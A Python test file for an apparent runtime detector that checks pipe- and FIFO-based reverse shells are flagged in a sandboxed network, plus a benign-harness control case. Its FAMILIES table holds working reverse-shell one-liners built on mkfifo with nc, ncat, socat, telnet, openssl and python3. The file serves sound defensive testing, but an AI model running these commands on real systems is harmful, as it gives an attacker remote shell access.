"""Reverse shells whose shell never touches a socket: pipes and FIFOs to a real network tool.

Each family runs from a script file (so no command line gives it away) in the agent namespace,
against a listener in the "internet" namespace that sends `echo pwned` and `exit`. The shell is
found through tracer/flows.py's pipe_link records, and the alert names the shell, its peer and the
connection.
"""

from __future__ import annotations

import shutil
import subprocess
import textwrap

import pytest

from sandbox import NET_IP, PY

FAMILIES = {
    # name: (script body with {host} {port} {fifo}, expected rule, peer comm)
    "nc-fifo-cat": ("rm -f {fifo}; mkfifo {fifo}\ncat {fifo} | /bin/sh -i 2>&1 | nc {host} {port} > {fifo}",
                    "pipe-reverse-shell", "nc"),
    "ncat-fifo": ("rm -f {fifo}; mkfifo {fifo}\n/bin/sh -i < {fifo} 2>&1 | ncat {host} {port} > {fifo}",
                  "pipe-reverse-shell", "ncat"),
    "socat-stdio": ("rm -f {fifo}; mkfifo {fifo}\ncat {fifo} | /bin/bash -i 2>&1 | socat - TCP:{host}:{port} > {fifo}",
                    "pipe-reverse-shell", "socat"),
    "telnet-fifo": ("rm -f {fifo}; mkfifo {fifo}\ntelnet {host} {port} 0<{fifo} | /bin/sh 1>{fifo}",
                    "pipe-reverse-shell", "telnet"),
    "openssl-s_client": ("rm -f {fifo}; mkfifo {fifo}\n"
                         "/bin/sh -i < {fifo} 2>&1 | openssl s_client -quiet -connect {host}:{port} > {fifo}",
                         "pipe-reverse-shell", "openssl"),
    "python-interpreter": ("rm -f {fifo}; mkfifo {fifo}\ncat {fifo} | python3 -i 2>&1 | nc {host} {port} > {fifo}",
                           "pipe-reverse-shell", "nc"),
    "nc-into-sh": ("nc {host} {port} | /bin/sh > /dev/null", "pipe-remote-commands-to-shell", "nc"),
}
PORTS = {name: 4600 + i for i, name in enumerate(FAMILIES)}


@pytest.fixture(scope="module")
def tls_listener(net):
    """A TLS listener (socat OPENSSL-LISTEN, self-signed) that sends the same commands."""
    port = PORTS["openssl-s_client"]
    key, cert = net.tmp / "tls.key", net.tmp / "tls.crt"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(cert),
                    "-days", "1", "-subj", "/CN=attacker"], check=True, capture_output=True)
    pem = net.tmp / "tls.pem"
    pem.write_bytes(key.read_bytes() + cert.read_bytes())
    net.spawn(net.internet, ["socat", f"OPENSSL-LISTEN:{port},bind={NET_IP},cert={pem},verify=0,reuseaddr,fork",
                             "SYSTEM:sleep 1; printf 'echo pwned\\nexit\\n'; sleep 2"], "tls-listener", ready=f"{NET_IP}:{port}")
    return NET_IP, port


@pytest.fixture(scope="module")
def pipe_shells(net, agentwatch, tls_listener):
    """Every family, one after another, each cut at 6 s, in one agent."""
    if shutil.which("telnet") is None:
        pytest.skip("telnet is not installed (scripts/setup.sh installs it)")
    parts = []
    for name, (body, _rule, _peer) in FAMILIES.items():
        if name != "openssl-s_client":
            # The commands come a second after the connection, as from a person typing: the links are
            # read from /proc after the records, and a shell that exits at once is gone by then.
            net.spawn(net.internet, ["socat", f"TCP-LISTEN:{PORTS[name]},bind={NET_IP},reuseaddr,fork",
                                     "SYSTEM:sleep 1; printf 'echo pwned\\nexit\\n'; sleep 2"],
                      f"pipe-{name}", ready=f"{NET_IP}:{PORTS[name]}")
        script = net.tmp / f"family-{name}.sh"
        script.write_text(body.format(host=NET_IP, port=PORTS[name], fifo=net.tmp / f"fifo-{name}") + "\n")
        parts.append(f"timeout 6 sh {script}")
    driver = net.tmp / "families.sh"
    driver.write_text("\n".join(parts) + "\n")
    return agentwatch(["sh", str(driver)], labels={"scenario": "pipe-shells"}, timeout=120)


@pytest.mark.parametrize("family", list(FAMILIES))
def test_pipe_family(pipe_shells, family):
    run = pipe_shells
    _body, rule, peer = FAMILIES[family]
    port = PORTS[family]
    alerts = [a for a in run.alerts_of(rule) if (a.get("network") or {}).get("dport") == port]
    assert alerts, f"no {rule} for {family}; the run raised:\n{run.describe()}"
    alert = alerts[0]
    assert "T1059.004" in alert["mitre"] and alert["severity"] in ("critical", "high")
    links = [r for r in run.events if r["type"] == "pipe_link" and r["network"]["dport"] == port]
    link = next(r for r in links if r["process"]["pid"] == alert["process"]["pid"])
    assert link["link"]["peer"]["comm"] == peer
    # The culprit is the shell (or interpreter) that ran the commands, not the network tool.
    name = alert["process"]["comm"]
    assert name in ("sh", "bash", "python3"), alert["process"]
    assert run.pids_that_exec(lambda p, pid=alert["process"]["pid"]: p["pid"] == pid)
    if rule == "pipe-reverse-shell":
        assert link["link"]["stdin"] and link["link"]["stdout"]
    if "fifo" in family or family in ("socat-stdio", "openssl-s_client", "python-interpreter"):
        assert "fifo" in link["link"]["via"]


def test_no_kernel_record_lost(pipe_shells):
    assert not [r for r in pipe_shells.records if r.get("type") == "lost"]


HARNESS = textwrap.dedent("""\
    import socket, subprocess, time
    api = socket.create_connection(("{host}", 80))  # the model API, kept open
    bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    for cmd in ("echo hello", "ls /", "python3 -c 'print(1+1)'"):
        bash.stdin.write(cmd + "; echo __done__\\n"); bash.stdin.flush()
        while bash.stdout.readline().strip() != "__done__":
            pass
        time.sleep(0.2)
    bash.stdin.close(); bash.wait(); api.close()
    """)


def test_an_agent_harness_driving_bash_through_pipes_is_benign(net, agentwatch, web):
    """The same shape (a process with an outside connection joined to bash both ways), made by the
    agent's own python: linked, but no alert of medium or more."""
    script = net.tmp / "harness_agent.py"
    script.write_text(HARNESS.format(host=NET_IP))
    run = agentwatch([PY, str(script)], labels={"scenario": "harness"})
    assert run.returncode == 0, run.stderr
    links = [r for r in run.events if r["type"] == "pipe_link"]
    assert any(r["process"]["comm"] == "bash" and r["link"]["peer"]["comm"].startswith("python")
               and r["link"]["stdin"] and r["link"]["stdout"] for r in links), links
    assert run.at_least("medium") == [], run.describe()
